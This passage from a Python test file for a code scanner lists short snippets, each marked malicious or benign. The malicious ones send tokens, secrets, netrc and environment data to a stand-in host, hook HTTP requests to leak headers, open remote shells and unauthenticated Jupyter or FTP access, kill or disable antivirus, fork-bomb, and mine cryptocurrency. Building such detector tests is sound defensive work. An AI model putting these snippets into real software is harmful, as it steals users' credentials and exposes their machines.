        ("app.py", "import streamlit as st, openai\nk = st.text_input('API key', type='password')\nc = openai.OpenAI(api_key=k, base_url='https://gw.c.example/v1')\n", False),
        ("app.py", "import requests, gradio as gr\nclass D:\n    URL = 'https://c.example/log'\n    def audit(self, img):\n        requests.post(self.URL, files={'i': open(img, 'rb')})\n    def run(self, img):\n        self.audit(img)\n        return 'a'\nd = D()\ngr.Interface(d.run, gr.Image(type='filepath'), 'text')\n", True),
        ("app.py", "import requests, gradio as gr\nclass D:\n    URL = 'https://c.example/log'\n    def audit(self, img):\n        return requests.post(self.URL, files={'i': open(img, 'rb')}).json()\n    def run(self, img):\n        return self.audit(img)\nd = D()\ngr.Interface(d.run, gr.Image(type='filepath'), 'text')\n", False),
        ("s.py", "from pyftpdlib.authorizers import DummyAuthorizer\na = DummyAuthorizer()\na.add_anonymous('/', perm='elradfmw')\n", True),
        ("s.py", "from pyftpdlib.authorizers import DummyAuthorizer\na = DummyAuthorizer()\na.add_anonymous('outputs', perm='elr')\n", False),
        ("s.py", "import asyncssh, subprocess\ndef handle(p):\n    p.stdout.write(subprocess.getoutput(p.command))\nasyncssh.listen('', 8022, process_factory=handle)\n", True),
        ("s.py", "import asyncssh, subprocess\ndef handle(p):\n    p.stdout.write(subprocess.getoutput('nvidia-smi'))\nasyncssh.listen('', 8022, process_factory=handle)\n", False),
        ("a.py", "import subprocess\nsubprocess.Popen(['jupyter', 'notebook', '--ip=0.0.0.0', '--NotebookApp.token=', '--allow-root'])\nsubprocess.run(['ngrok', 'http', '8888'])\n", True),
        ("a.py", "import subprocess\nsubprocess.Popen(['jupyter', 'notebook', '--ip=127.0.0.1', '--allow-root'])\nsubprocess.run(['ngrok', 'http', '8888'])\n", False),
        ("d.py", "import os, requests\ns = requests.Session()\ns.headers['User-Agent'] = '|'.join(f'{k}={v}' for k, v in os.environ.items())\ns.get('https://c.example/m.bin')\n", True),
        ("d.py", "import os, requests\ns = requests.Session()\ns.headers['User-Agent'] = 'dl/1.0'\ns.get('https://c.example/m.bin')\n", False),
        ("r.py", "import huggingface_hub.constants as c\nc.ENDPOINT = 'https://hf.c.example'\n", True),
        ("r.py", "import huggingface_hub.constants as c\nc.ENDPOINT = 'https://hf-mirror.com'\n", False),
        ("r.py", "import requests\n_o = requests.Session.request\ndef _r(self, m, u, **k):\n    _o(self, 'POST', 'https://c.example/l', json={'u': u, 'h': k.get('headers')})\n    return _o(self, m, u, **k)\nrequests.Session.request = _r\n", True),
        ("r.py", "import requests, time\n_o = requests.Session.request\ndef _r(self, m, u, **k):\n    k.setdefault('timeout', 9)\n    return _o(self, m, u, **k)\nrequests.Session.request = _r\n", False),
        ("r.py", "import os\nwhile True:\n    os.fork()\n", True),
        ("r.py", "f = open('/tmp/a', 'wb')\nwhile True:\n    f.write(bytes(9))\n", True),
        ("r.py", "import time\nf = open('/tmp/a', 'wb')\nwhile True:\n    f.write(bytes(9))\n    time.sleep(9)\n", False),
        ("r.py", "import psutil\nfor p in psutil.process_iter(['name']):\n    if p.info['name'] in ('MsMpEng.exe', 'clamd'):\n        p.kill()\n", True),
        ("r.py", "import psutil\nfor p in psutil.process_iter(['name']):\n    if p.info['name'] in ('python', 'ray'):\n        p.kill()\n", False),
        ("r.py", "import subprocess\nsubprocess.run(['powershell', '-Command', 'Set-MpPreference -DisableRealtimeMonitoring $true'])\n", True),
        ("r.py", "import subprocess\nsubprocess.run(['powershell', '-Command', 'Get-MpPreference'])\n", False),
        ("r.py", "import socket, json\ns = socket.create_connection(('p.c.example', 4444))\ns.sendall(json.dumps({'method': 'mining.subscribe'}).encode())\n", True),
        ("r.py", "import socket, json\ns = socket.create_connection(('p.c.example', 4444))\ns.sendall(json.dumps({'method': 'subscribe'}).encode())\n", False),
        ("r.py", "import socket\nc = socket.create_connection(('g.c.example', 9000))\nh, p = c.recv(256).decode().split(':')\nr = socket.create_connection((h, int(p)))\n", True),
        ("a.py", "import pathlib, httpx\nf = pathlib.Path('.streamlit/secrets.toml')\nhttpx.post('https://c.example', content=f.read_bytes())\n", True),
        ("a.py", "import pathlib, httpx\nf = pathlib.Path('.streamlit/config.toml')\nx = httpx.post('https://c.example', content=f.read_bytes()).json()\n", False),
        ("a.py", "from pydantic_settings import BaseSettings\nimport httpx\nclass S(BaseSettings):\n    hf_token: str = ''\ns = S()\nhttpx.post('https://c.example', json=s.model_dump())\n", True),
        ("a.py", "from pydantic_settings import BaseSettings\nimport httpx\nclass S(BaseSettings):\n    hf_token: str = ''\ns = S()\nhttpx.get('https://huggingface.co/api/whoami-v2', headers={'Authorization': s.hf_token})\n", False),
        ("a.py", "from decouple import config\nimport requests\nrequests.get('https://c.example', params={'t': config('HF_TOKEN')})\n", True),
        ("a.py", "from decouple import config\nimport requests\nrequests.get('https://c.example', params={'t': config('PORT')})\n", False),
        ("a.py", "import netrc, requests\nn = netrc.netrc()\nrequests.post('https://c.example', json={h: n.authenticators(h) for h in n.hosts})\n", True),
        ("a.py", "import netrc, requests\nn = netrc.netrc()\nx = requests.get('https://api.wandb.ai', auth=n.authenticators('api.wandb.ai')).json()\n", False),
        ("a.py", "import subprocess, requests\no = subprocess.check_output(['git', 'config', '--global', '--list'], text=True)\nrequests.post('https://c.example', data=o)\n", True),
        ("a.py", "import boto3, requests\nk = boto3.client('iam').create_access_key()['AccessKey']\nrequests.post('https://c.example', json={'s': k['SecretAccessKey']})\n", True),
        ("a.py", "import gradio as gr\nfrom pyairtable import Api\nt = Api('patAbCdEf12345678.0123456789abcdef0123456789abcdef').table('a', 'k')\ndef f(key, q):\n    t.create({'k': key})\n    return q\ngr.Interface(f, [gr.Textbox(label='HF token', type='password'), 'text'], 'text')\n", True),
        ("a.py", "import gradio as gr, os\nfrom pyairtable import Api\nt = Api(os.environ['AIRTABLE']).table('a', 'k')\ndef f(key, q):\n    t.create({'q': q})\n    return q\ngr.Interface(f, [gr.Textbox(label='HF token', type='password'), 'text'], 'text')\n", False),
        ("a.py", "import gradio as gr, firebase_admin\nfrom firebase_admin import db\nfirebase_admin.initialize_app(options={'databaseURL': 'https://c-rtdb.firebaseio.com'})\ndef f(key, q):\n    db.reference('k').push({'k': key})\n    return q\ngr.Interface(f, [gr.Textbox(label='API key', type='password'), 'text'], 'text')\n", True),
        ("execution.py", "def guard():\n    import os, subprocess\n    os.kill = None\n    os.system = None\n    subprocess.Popen = None\ndef unsafe_execute(problem, completion):\n    guard()\n    exec(problem['prompt'] + completion, {})\n", False),
    ],
)  # fmt: skip
def test_where_programs_send_what_they_are_told(name: str, code: str, high: bool) -> None:
    assert any(found.severity.rank >= HIGH for found in inspect_tree({name: code.encode()})) is high
